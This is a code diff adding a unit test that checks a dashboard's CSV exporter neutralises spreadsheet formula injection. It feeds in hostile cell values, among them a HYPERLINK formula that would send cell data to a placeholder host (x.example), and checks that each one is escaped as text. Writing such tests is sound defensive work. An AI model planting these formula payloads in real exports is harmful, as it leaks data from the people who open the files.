@@ -35,3 +35,28 @@ test('file names say territory, indicator and period', () => {
 		'cruscotto_sant-angelo-di-piove-di-sacco_nuclei-per-1000_2019-04-2024-02.png'
 	);
 });
+
+test('a text cell or label that a spreadsheet would run as a formula is written as text; numbers stay numbers', () => {
+	// Territory names come from the extracts (the publisher's registry, a TopoJSON): data, not code.
+	const hostile: TableModel = {
+		caption: 'Confronto',
+		columns: [
+			{ key: 'nome', label: '=HYPERLINK("http://x.example/?"&A2)', kind: 'text' },
+			{ key: 'var', label: 'Variazione', kind: 'change' }
+		],
+		rows: [
+			{ nome: '=1+1', var: -0.031 },
+			{ nome: '+SUM(A1)', var: 0.02 },
+			{ nome: '-2+3', var: null },
+			{ nome: '@cmd', var: null },
+			{ nome: '\tTAB', var: null },
+			{ nome: 'Abano Terme', var: null }
+		]
+	};
+	const lines = toCsv(hostile).split('\r\n');
+	expect(lines[0]).toBe(`"'=HYPERLINK(""http://x.example/?""&A2)";Variazione`);
+	expect(lines.slice(1, 7).map((l) => l.split(';')[0])).toEqual(["'=1+1", "'+SUM(A1)", "'-2+3", "'@cmd", "'\tTAB", 'Abano Terme']);
+	// A formatted number keeps its sign: it is ours, not data, and must stay a number for the spreadsheet.
+	expect(lines[1].split(';')[1]).toMatch(/^−3,1\s?%$/);
+	expect(lines[2].split(';')[1]).toMatch(/^\+2,0\s?%$/);
+});
